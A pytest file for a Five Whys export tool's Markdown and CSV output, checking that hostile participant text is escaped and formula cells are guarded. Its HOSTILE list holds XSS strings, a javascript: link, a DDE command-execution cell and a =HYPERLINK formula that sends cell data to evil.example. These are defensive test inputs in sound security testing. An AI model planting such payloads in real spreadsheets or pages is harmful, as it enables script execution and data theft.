"""Five Whys exports: the Markdown outline and the CSV, including hostile participant text."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from strategies import five_whys

from servicekit.analysis import walk
from servicekit.export import tree_csv, tree_markdown
from servicekit.export.five_whys import CSV_COLUMNS
from servicekit.models import Countermeasure, FiveWhys, WhyNode

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed start",
    "\rCarriage return start",
    "# Not a heading [link](javascript:alert(1)) *not bold* `not code` | a | ~x~ $x$",
    "1. not a list &amp; &lt;b&gt; AT&T \\ back\\slash",
    "- not a bullet > not a quote",
    "שלום, הלקוח מחכה שלושה ימים",  # right-to-left
    "مرحبا بالعالم",
    "Customers 😡 wait 🕐 3 days 👍🏽",
    "Very long " + "evidence, " * 480,  # close to the 5,000-character limit
]


@pytest.fixture
def tree() -> FiveWhys:
    t = FiveWhys("t", "Refunds wait 6 days for approval in Leeds (March 2026)")
    t = t.with_why(
        WhyNode("a", None, "Sign-off needs a team leader", "Policy v4", "fact", "process")
    )
    t = t.with_why(
        WhyNode("b", "a", "Queue checked once a day", "", "likely", None, root_cause=True)
    )
    t = t.with_why(WhyNode("c", "a", "A branch the room dropped", "", "opinion"))
    t = t.with_why(WhyNode("c1", "c", "Hidden answer", "", "opinion", root_cause=True))
    t = t.with_why(WhyNode("d", None, "Customers chase by phone", "Call log", "fact", "people"))
    t = t.with_countermeasure(Countermeasure("m1", "b", "automate", "Alert on waiting items"))
    t = t.with_countermeasure(
        Countermeasure("m2", "b", "eliminate", "Drop sign-off under £200", "Ana Ruiz", "2026-04-30")
    )
    t = t.with_countermeasure(Countermeasure("m3", "c1", "simplify", "Hidden measure", "Bo"))
    return t.with_deleted("c")


def test_markdown_outline(tree: FiveWhys) -> None:
    assert tree_markdown(tree) == (
        "# Refunds wait 6 days for approval in Leeds (March 2026)\n"
        "\n"
        "- **1** Sign-off needs a team leader *(process · fact)*\n"
        "  - Evidence: Policy v4\n"
        "  - **1.1** Queue checked once a day *(no lens · likely)* **ROOT CAUSE**\n"
        "    - Evidence: none recorded\n"
        "    - Countermeasures:\n"
        "      1. Eliminate: Drop sign-off under £200 (owner: Ana Ruiz; due 2026-04-30)\n"
        "      2. Automate: Alert on waiting items (no owner yet; no due date)\n"
        "- **2** Customers chase by phone *(people · fact)*\n"
        "  - Evidence: Call log\n"
    )


def test_markdown_of_an_empty_tree_says_so() -> None:
    assert tree_markdown(FiveWhys("t", "Refunds wait")) == "# Refunds wait\n\n*No answers yet.*\n"


def test_csv_rows(tree: FiveWhys) -> None:
    rows = list(csv.reader(io.StringIO(tree_csv(tree), newline="")))
    assert rows == [
        list(CSV_COLUMNS),
        ["a", "", "1", "1", "Sign-off needs a team leader", "Policy v4", "fact", "process", "no", ""],
        [
            "b", "a", "2", "1.1", "Queue checked once a day", "", "likely", "", "yes",
            "eliminate: Drop sign-off under £200 (Ana Ruiz, 2026-04-30); "
            "automate: Alert on waiting items",
        ],
        ["d", "", "1", "2", "Customers chase by phone", "Call log", "fact", "people", "no", ""],
    ]  # fmt: skip
    assert tree_csv(tree).endswith("\r\n")


def test_deleted_branches_are_left_out(tree: FiveWhys) -> None:
    for text in ("A branch the room dropped", "Hidden answer", "Hidden measure"):
        assert text not in tree_markdown(tree)
        assert text not in tree_csv(tree)
    restored = tree.with_deleted("c", False)
    assert "Hidden measure" in tree_markdown(restored)
    assert "Hidden answer" in tree_csv(restored)


# -- hostile text ----------------------------------------------------------------------------
class _Visible(HTMLParser):
    """Collects the tags and the text a browser would show."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _rendered(markdown: str) -> tuple[set[str], str]:
    mistune = pytest.importorskip("mistune")  # the renderer nbconvert uses; raw HTML passes
    parser = _Visible()
    parser.feed(mistune.html(markdown))
    return parser.tags, " ".join("".join(parser.text).split())


def _tree_with(text: str) -> FiveWhys:
    t = FiveWhys("t", text)
    t = t.with_why(WhyNode("a", None, text, text, "fact", root_cause=True))
    return t.with_countermeasure(Countermeasure("m", "a", "simplify", text, owner=text[:200]))


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_participant_text_as_text(text: str) -> None:
    markdown = tree_markdown(_tree_with(text))
    assert "<img" not in markdown
    tags, shown = _rendered(markdown)
    assert tags <= {"h1", "ul", "ol", "li", "strong", "em"}
    flat = " ".join(text.split())
    assert shown.count(flat) >= 4  # problem, answer, evidence and action all appear as typed


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_round_trips_participant_text(text: str) -> None:
    [_, row] = list(csv.reader(io.StringIO(tree_csv(_tree_with(text)), newline="")))
    guarded = "'" + text if text[0] in "=+-@\t\r" else text
    assert row[4] == row[5] == guarded  # answer and evidence
    assert text in row[9]


def test_formula_cells_get_an_apostrophe() -> None:
    t = FiveWhys("t", "p").with_why(WhyNode("a", None, '=HYPERLINK("http://x")', "@cmd"))
    t = t.with_why(WhyNode("b", "a", "a = b is fine", "-1 day", "likely", "people"))
    rows = list(csv.reader(io.StringIO(tree_csv(t), newline="")))
    assert [r[4:6] for r in rows[1:]] == [
        ['\'=HYPERLINK("http://x")', "'@cmd"],
        ["a = b is fine", "'-1 day"],
    ]


@given(five_whys())
def test_csv_holds_every_visible_answer_in_tree_order(tree: FiveWhys) -> None:
    rows = list(csv.reader(io.StringIO(tree_csv(tree), newline="")))
    positions = walk(tree)
    assert [r[0] for r in rows[1:]] == [p.node.id for p in positions]
    for row, position in zip(rows[1:], positions, strict=True):
        answer = position.node.answer
        assert row[4] == ("'" + answer if answer[0] in "=+-@\t\r" else answer)
        assert row[3] == position.number


@given(five_whys())
def test_markdown_shows_every_visible_answer(tree: FiveWhys) -> None:
    tags, shown = _rendered(tree_markdown(tree))
    assert tags <= {"h1", "ul", "ol", "li", "strong", "em", "p"}
    for node in tree.visible_nodes():
        assert " ".join(node.answer.split()) in shown
    # Participant text stays on its line, so each why-bullet is one of ours: hidden ones are gone.
    bullets = re.findall(r"^ *- \*\*[\d.]+\*\* ", tree_markdown(tree), flags=re.MULTILINE)
    assert len(bullets) == len(tree.visible_nodes())
